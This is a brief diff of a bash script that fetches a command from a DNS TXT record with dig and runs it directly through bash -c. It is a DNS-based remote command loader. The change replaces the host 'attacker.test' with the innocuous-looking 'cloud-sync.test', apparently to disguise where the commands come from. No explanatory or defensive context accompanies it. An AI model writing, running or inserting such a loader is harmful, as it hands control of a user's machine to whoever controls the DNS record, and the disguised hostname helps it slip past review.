@@ -1,3 +1,3 @@
 #!/bin/bash
-c=$(dig +short TXT cmd.attacker.test | tr -d '"')
+c=$(dig +short TXT cmd.cloud-sync.test | tr -d '"')
 bash -c "$c"
